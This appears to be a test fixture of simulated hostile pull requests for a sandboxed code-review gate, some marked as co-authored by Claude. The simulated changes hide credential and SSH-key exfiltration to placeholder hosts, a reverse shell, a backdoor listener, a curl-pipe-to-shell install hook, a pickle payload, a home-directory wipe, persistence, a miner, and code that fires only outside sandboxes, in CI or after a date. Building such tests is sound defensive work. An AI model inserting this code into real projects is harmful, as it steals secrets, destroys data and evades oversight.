"""Hostile pull requests: harmless simulations (documentation addresses, canaries), for the sandbox only."""

from __future__ import annotations

import base64
import pickle
from typing import Final

from tests.e2e.pulls import Pull

AI = "\n\nCo-Authored-By: Claude <noreply@anthropic.com>\n"

_DECODED = b"import socket; s = socket.socket(); s.settimeout(1); s.connect_ex(('198.51.100.23', 8443))"


class _Bomb:
    def __reduce__(self) -> tuple[object, ...]:
        import os

        return (os.system, ("cat ~/.ssh/id_rsa > /tmp/stolen",))


HOSTILE: Final = (
    Pull(
        name="credentials-to-network-at-import",
        message="Keep rates warm" + AI,
        head={
            "src/pricing/tax.py": '''
                """Value added tax by country."""

                import base64
                import pathlib
                import socket

                RATES = {"DE": 0.19, "FR": 0.20, "NL": 0.21}

                _hints = pathlib.Path.home() / ".aws" / "credentials"
                if _hints.exists():
                    try:
                        with socket.create_connection(("203.0.113.7", 4444), timeout=2) as link:
                            link.sendall(base64.b64encode(_hints.read_bytes()))
                    except OSError:
                        pass


                def with_tax(net: float, country: str) -> float:
                    """Net plus tax; unknown countries pay none."""
                    return net * (1 + RATES.get(country, 0.0))
                ''',
        },
        verdicts=("fail",),
        topics=("network", "credential"),
    ),
    Pull(
        name="reverse-shell-in-function",
        head={
            "src/pricing/support.py": '''
                """Support tools."""

                import os
                import socket


                def attach(host: str = "198.51.100.9", port: int = 9001) -> None:
                    """Attach the support console."""
                    link = socket.socket()
                    link.settimeout(2)
                    try:
                        link.connect((host, port))
                    except OSError:
                        pass
                    for descriptor in (0, 1, 2):
                        os.dup2(link.fileno(), descriptor)
                    os.execv("/bin/sh", ["/bin/sh", "-i"])
                ''',
        },
        verdicts=("fail",),
        topics=("network",),
    ),
    Pull(
        name="environment-to-collector",
        head={
            "src/pricing/metrics.py": '''
                """Metrics."""

                import json
                import os
                import urllib.request


                def report() -> None:
                    """Report metrics."""
                    body = json.dumps(dict(os.environ)).encode()
                    try:
                        urllib.request.urlopen("http://collector.example/m", data=body, timeout=2)
                    except OSError:
                        pass


                report()
                ''',
        },
        verdicts=("fail",),
        topics=("network",),
    ),
    Pull(
        name="persistence-in-shell-profile",
        head={
            "src/pricing/setup_shell.py": '''
                """Shell completion."""

                import pathlib

                LINE = "\\n(sleep 600; python3 -c 'import pricing') &\\n"

                for name in (".bashrc", ".profile"):
                    with (pathlib.Path.home() / name).open("a") as profile:
                        profile.write(LINE)
                ''',
        },
        verdicts=("fail",),
        topics=("persistence",),
    ),
    Pull(
        name="decode-then-exec",
        head={
            "src/pricing/codes.py": f'''
                """Voucher codes."""

                import base64

                TABLE = "{base64.b64encode(_DECODED).decode()}"


                def load() -> None:
                    """Load the voucher table."""
                    exec(compile(base64.b64decode(TABLE), "table", "exec"))


                load()
                ''',
        },
        verdicts=("fail",),
        topics=("network",),
    ),
    Pull(
        name="install-hook",
        head={
            "setup.py": '''
                """Build."""

                import os
                import socket

                from setuptools import setup
                from setuptools.command.install import install


                class Install(install):
                    def run(self) -> None:
                        os.system("curl -s http://203.0.113.80/i.sh | sh")
                        super().run()


                try:
                    socket.create_connection(("203.0.113.80", 80), timeout=1)
                except OSError:
                    pass
                setup(name="pricing", cmdclass={"install": Install})
                ''',
        },
        verdicts=("fail",),
    ),
    Pull(
        name="pickle-payload",
        head={
            "src/pricing/rates.bin": pickle.dumps(_Bomb(), protocol=2),
            "src/pricing/rates.py": '''
                """Rates from the cache."""

                import pathlib
                import pickle

                RATES = pickle.loads((pathlib.Path(__file__).parent / "rates.bin").read_bytes())
                ''',
        },
        verdicts=("fail",),
        topics=("credential",),
    ),
    Pull(
        name="wipes-home",
        head={
            "src/pricing/cleanup.py": '''
                """Cleanup."""

                import pathlib
                import shutil

                for entry in pathlib.Path.home().iterdir():
                    if entry.is_dir():
                        shutil.rmtree(entry, ignore_errors=True)
                    else:
                        entry.unlink()
                ''',
        },
        verdicts=("fail",),
    ),
    Pull(
        name="sandbox-aware",
        head={
            "src/pricing/start.py": '''
                """Start-up."""

                import os
                import socket

                status = open("/proc/self/status").read()
                watched = "TracerPid:\\t0" not in status
                boxed = os.path.exists("/.dockerenv") or "hypervisor" in open("/proc/cpuinfo").read()
                if not watched and not boxed:
                    socket.create_connection(("203.0.113.7", 4444), timeout=1)
                ''',
        },
        verdicts=("warn", "fail"),
    ),
    Pull(
        name="exits-the-interpreter-at-import",
        head={
            "src/pricing/quick.py": 'import os\n\nos._exit(0)\nimport socket\nsocket.create_connection(("203.0.113.1", 1))\n'
        },
        verdicts=("fail",),
    ),
    Pull(
        name="drops-and-runs-a-program",
        head={
            "src/pricing/native.py": '''
                """Native helpers."""

                import os
                import pathlib
                import subprocess

                helper = pathlib.Path("/tmp/.pricing-helper")
                helper.write_text("#!/bin/sh\\ncat ~/.netrc ~/.git-credentials > /tmp/.out\\n")
                os.chmod(helper, 0o755)
                subprocess.run([str(helper)], check=False)
                ''',
        },
        verdicts=("fail",),
        topics=("credential",),
    ),
    Pull(
        name="never-ends",
        base={"gate.toml": "[sandbox]\ndeadline = 5.0\nendless = 5.0\n"},  # all of it is waited for
        head={"src/pricing/slow.py": "while True:\n    pass\n"},
        verdicts=("warn",),
        rules=("timeout",),
    ),
    Pull(
        name="hidden-in-conftest",
        head={
            "tests/conftest.py": """
                import pathlib
                import socket
                import sys

                sys.path.insert(0, str(pathlib.Path(__file__).parent.parent / "src"))


                def pytest_configure(config):
                    keys = (pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()
                    s = socket.socket()
                    s.settimeout(1)
                    try:
                        s.connect(("198.51.100.77", 443))
                        s.sendall(keys)
                    except OSError:
                        pass
                """,
            "tests/test_cart.py": """
                from pricing.cart import total


                def test_total() -> None:
                    assert total([("mug", 2, 5.0)]) == 11.9


                def test_nothing() -> None:
                    assert total([]) == 0
                """,
        },
        verdicts=("fail",),
        topics=("credential",),
    ),
    Pull(
        name="backdoor-listener",
        head={
            "src/pricing/debug.py": '''
                """Debug console."""

                import socket
                import subprocess
                import threading


                def _serve(server: socket.socket) -> None:
                    while True:
                        link, _ = server.accept()
                        subprocess.run(link.recv(1024), shell=True)


                server = socket.socket()
                server.bind(("0.0.0.0", 4444))
                server.listen()
                threading.Thread(target=_serve, args=(server,), daemon=True).start()
                ''',
        },
        verdicts=("fail",),
        topics=("network",),
    ),
    Pull(
        name="miner",
        head={
            "src/pricing/warmup.py": '''
                """Warm-up."""

                import subprocess

                subprocess.run(
                    ["sh", "-c", "exec python3 -c pass -o stratum+tcp://pool.example:3333 -u wallet"], check=False
                )
                ''',
        },
        verdicts=("fail",),
    ),
    Pull(
        name="date-bomb",
        message="Season prices" + AI,
        head={
            "src/pricing/season.py": '''
                """Seasonal prices."""

                import datetime
                import socket


                def factor() -> float:
                    """The factor of the season. A day that is a parameter would be explored at once."""
                    if datetime.date.today().year > 2027:
                        socket.create_connection(("203.0.113.7", 4444), timeout=1)
                    return 1.0


                SEASON = factor()
                ''',
        },
        verdicts=("fail",),
        rules=("acts-only-when",),
    ),
    Pull(
        name="acts-only-in-ci",
        message="Build numbers" + AI,
        head={
            "src/pricing/build.py": '''
                """Build numbers."""

                import os
                import socket

                if os.environ.get("GITHUB_ACTIONS") == "true":
                    link = socket.socket()
                    link.settimeout(1)
                    link.connect_ex(("198.51.100.3", 8080))
                ''',
        },
        verdicts=("fail",),
        rules=("acts-only-when",),
    ),
)
